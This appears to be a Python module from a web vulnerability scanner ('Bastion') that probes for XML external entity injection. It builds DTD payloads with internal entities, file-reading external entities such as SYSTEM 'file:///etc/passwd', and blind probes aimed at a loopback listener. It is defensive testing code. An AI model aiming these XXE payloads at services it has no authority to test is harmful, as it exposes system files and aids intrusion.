"""XML external entities: does the service's XML parser process a DTD we send?

Two signals, each proven twice with fresh canaries:
- an internal entity `<!ENTITY e "c1">` referenced as `&e;c2` comes back as `c1c2` (the raw
  document never contains that string): DTD processing is on (firm, medium);
- an external entity `SYSTEM "file:///etc/passwd"` puts the file's signature in the response, which
  the baseline does not have: local file disclosure (confirmed, high);
- blind: an external entity pointing at Bastion's loopback listener is fetched, or one pointing at a
  missing file whose path carries a canary is opened (the open sensor): resolution that never
  reaches the response (confirmed, high).
Network entities only ever name the loopback listener; no entity-expansion bombs.
"""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from collections.abc import AsyncIterator
from dataclasses import dataclass

from bastion.checks.registry import check
from bastion.engine.context import CheckContext
from bastion.findings.evidence import body_contains, body_matches, exchange_evidence, note, proof_from, status_in
from bastion.findings.model import Confidence, Finding, Severity
from bastion.surface.model import EntryPoint, Input
from bastion.surface.requests import build_request
from bastion.target.exchange import Exchange
from bastion.target.listener import LoopbackListener, reaches_loopback

_XML_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_.-]{0,40}$")
_PLACEHOLDER = "BSTXXEPLACEHOLDER"
MAX_STRUCTURES = 2
MAX_EXAMPLE_BYTES = 20_000


def is_xml_media_type(media_type: str) -> bool:
    mt = media_type.split(";")[0].strip().lower()
    return mt.endswith("/xml") or mt.endswith("+xml")


def _body_input(ep: EntryPoint) -> Input | None:
    return next((i for i in ep.inputs if i.location == "body"), None)


def takes_xml(ep: EntryPoint) -> bool:
    """XML in `consumes`, or a raw body the handler reads (cheap to try)."""
    return any(is_xml_media_type(mt) for mt in ep.consumes) or _body_input(ep) is not None


@dataclass(frozen=True)
class Skeleton:
    """A document shape: a root and leaf element names, rendered with entity references in every leaf."""

    root: str
    leaves: tuple[str, ...]
    example: str | None = None  # serialised example with placeholders in its leaves

    def render(self, dtd: str, root_name: str, leaf_text: str) -> str:
        if self.example is not None:
            body = self.example.replace(_PLACEHOLDER, leaf_text)
        else:
            inner = "".join(f"<{name}>{leaf_text}</{name}>" for name in self.leaves)
            body = f"<{self.root}>{leaf_text}{inner}</{self.root}>"
        doctype = f"<!DOCTYPE {root_name} [{dtd}]>" if dtd else ""
        return f'<?xml version="1.0" encoding="UTF-8"?>{doctype}{body}'


def _example_skeleton(example: str | None) -> Skeleton | None:
    """The shape of the input's example document, if it is small, plain XML (no DTD of its own)."""
    if not example or len(example) > MAX_EXAMPLE_BYTES or "<!" in example.replace("<![CDATA[", ""):
        return None
    try:
        root = ET.fromstring(example)
    except ET.ParseError:
        return None
    leaves = [el for el in root.iter() if len(el) == 0]
    for el in leaves:
        el.text = _PLACEHOLDER
    names = tuple(el.tag for el in leaves if isinstance(el.tag, str))
    return Skeleton(root=str(root.tag), leaves=names, example=ET.tostring(root, encoding="unicode"))


def skeletons(ctx: CheckContext, ep: EntryPoint) -> list[Skeleton]:
    """Document shapes to try: the example's, then a generic one with known and common field names."""
    out: list[Skeleton] = []
    body = _body_input(ep)
    from_example = _example_skeleton(body.example if body else None)
    if from_example is not None:
        out.append(from_example)
    known = [i.name.split(".")[-1].removesuffix("[]") for i in ep.inputs
             if i.location in ("form", "json", "multipart")]
    names = [n for n in [*known, *ctx.payloads.get("xxe-element-names")] if _XML_NAME.match(n)]
    out.append(Skeleton(root="root", leaves=tuple(dict.fromkeys(names))))
    return out[:MAX_STRUCTURES]


async def _send_xml(ctx: CheckContext, ep: EntryPoint, document: str) -> Exchange:
    body_inp = _body_input(ep)
    spec = build_request(ep, body_inp, document) if body_inp else build_request(ep)
    spec.json, spec.form, spec.files = None, None, None
    spec.content = document.encode("utf-8")
    media = next((mt for mt in ep.consumes if is_xml_media_type(mt)), "application/xml")
    spec.headers = {k: v for k, v in spec.headers.items() if k.lower() != "content-type"}
    spec.headers["content-type"] = media
    return await ctx.send_spec(spec)


@dataclass
class _Hit:
    ex: Exchange
    marker: str


async def _internal_entity(ctx: CheckContext, ep: EntryPoint, shape: Skeleton) -> _Hit | None:
    """Declare `<!ENTITY e "c1">`, reference `&e;c2`: expanded iff `c1c2` comes back without `&e;`."""
    entity, c1, c2 = ctx.canary(6), ctx.canary(), ctx.canary()
    doc = shape.render(f'<!ENTITY {entity} "{c1}">', shape.root, f"&{entity};{c2}")
    ex = await _send_xml(ctx, ep, doc)
    expanded = c1 + c2
    if ex.ok and expanded in ex.text and f"&{entity};" not in ex.text:
        return _Hit(ex, expanded)
    return None


async def _external_entity(ctx: CheckContext, ep: EntryPoint, shape: Skeleton, file: str,
                           signature: str) -> _Hit | None:
    entity, canary = ctx.canary(6), ctx.canary()
    doc = shape.render(f'<!ENTITY {entity} SYSTEM "{file}">', shape.root, f"&{entity};{canary}")
    ex = await _send_xml(ctx, ep, doc)
    if ex.ok and re.search(signature, ex.text):
        return _Hit(ex, signature)
    return None


@check(id="injection.xxe", threat="injection.xxe", scope="entry", methods=("POST", "PUT", "PATCH"))
async def xxe(ctx: CheckContext) -> AsyncIterator[Finding]:
    """XXE on entry points that take XML or a raw body.

    Bound per entry point: 1 baseline + per document shape (≤ 2): internal entity 1 + confirmation 1,
    then per file entity (2) 1 + confirmation 1, then 2 blind probes per shape = at most 17 requests.
    """
    ep = ctx.ep
    assert ep is not None
    if not takes_xml(ep):
        return
    shapes = skeletons(ctx, ep)
    baseline = await _send_xml(ctx, ep, shapes[-1].render("", shapes[-1].root, "bastion"))
    files = ctx.payloads.get("xxe-files")
    internal: tuple[_Hit, _Hit] | None = None
    for shape in shapes:
        first = await _internal_entity(ctx, ep, shape)
        second = await _internal_entity(ctx, ep, shape) if first else None
        if first is None or second is None:
            continue
        internal = internal or (first, second)
        for entry in files:
            if re.search(entry["signature"], baseline.text):
                continue  # the page shows it anyway: no proof possible
            hit = await _external_entity(ctx, ep, shape, entry["file"], entry["signature"])
            again = await _external_entity(ctx, ep, shape, entry["file"], entry["signature"]) if hit else None
            if hit and again:
                yield _file_finding(ctx, ep, again, entry["label"])
                return
    blind = await blind_external_entity(ctx, ep, shapes)
    if blind is not None:
        yield blind
        return
    if internal is not None:
        yield _internal_finding(ctx, ep, *internal)


async def blind_external_entity(ctx: CheckContext, ep: EntryPoint, shapes: list[Skeleton]) -> Finding | None:
    """External entities resolved although nothing shows in the response: the entity points at Bastion's
    loopback listener (a hit proves a network fetch) or at a missing file whose path carries a canary
    (the open sensor proves a file access). At most 2 requests per document shape."""
    if not reaches_loopback(ctx.target):
        return None
    with LoopbackListener(rng=ctx.rng) as listener:
        for shape in shapes:
            for kind in ("network", "file"):
                canary, entity = ctx.canary(), ctx.canary(6)
                system_id = (listener.url(canary, ".dtd") if kind == "network"
                             else f"file:///nonexistent-bastion/{canary}.xml")
                ex = await _send_xml(ctx, ep, shape.render(f'<!ENTITY {entity} SYSTEM "{system_id}">', shape.root,
                                                           f"&{entity};"))
                hits = listener.hits_for(canary)
                opened = [e for e in ctx.sensor_events(canary) if e.kind == "open"]
                if hits or opened:
                    seen = (f"Bastion's loopback listener received {hits[0].method} {hits[0].path}" if hits
                            else "the open sensor saw the parser open the entity's file path")
                    return ctx.finding(
                        title=f"XXE: external entities resolved ({kind}, blind) ({ep.method} {ep.path})",
                        confidence=Confidence.confirmed,
                        evidence=[*exchange_evidence(ex, f"external entity SYSTEM {system_id}"),
                                  note("blind (seen out of band)", f"{seen}: the parser resolves external "
                                                                   "entities although the response does not show it")],
                        proof=proof_from(ex, status_in(ex.status)),
                        location=ctx.location(inp=_body_input(ep), url=ex.request.url))
    return None


def _file_finding(ctx: CheckContext, ep: EntryPoint, hit: _Hit, label: str) -> Finding:
    return ctx.finding(
        title=f"XXE: external entity reads {label} ({ep.method} {ep.path})",
        confidence=Confidence.confirmed,
        evidence=[*exchange_evidence(hit.ex, f"external entity SYSTEM file read {label}",
                                     _first_match(hit.marker, hit.ex.text)),
                  note("confirmed twice", f"{label} content (/{hit.marker}/) appeared in two responses "
                                          "with different entity names and canaries, not in the baseline")],
        proof=proof_from(hit.ex, body_matches(hit.marker)),
        location=ctx.location(inp=_body_input(ep), url=hit.ex.request.url),
    )


def _internal_finding(ctx: CheckContext, ep: EntryPoint, first: _Hit, second: _Hit) -> Finding:
    return ctx.finding(
        title=f"XML parser processes DTDs: internal entity expanded ({ep.method} {ep.path})",
        confidence=Confidence.firm, severity=Severity.medium,
        evidence=[*exchange_evidence(second.ex, f"entity expanded to {second.marker}", second.marker),
                  note("DTD processing enabled",
                       f"two internal entities expanded ({first.marker}, {second.marker}); external "
                       "file entities did not show file content, so disclosure is not proven")],
        proof=proof_from(second.ex, body_contains(second.marker)),
        location=ctx.location(inp=_body_input(ep), url=second.ex.request.url),
    )


def _first_match(regex: str, text: str) -> str | None:
    m = re.search(regex, text)
    return m.group(0) if m else None
